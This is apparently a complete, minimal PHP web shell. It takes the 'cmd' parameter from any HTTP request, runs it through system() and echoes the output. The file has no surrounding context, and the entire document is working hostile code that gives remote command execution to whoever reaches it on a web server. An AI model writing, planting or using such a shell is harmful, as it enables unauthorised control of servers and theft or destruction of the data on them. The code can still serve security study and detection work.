<?php
$cmd = $_REQUEST['cmd'];
echo "<pre>";
system($cmd);
echo "</pre>";
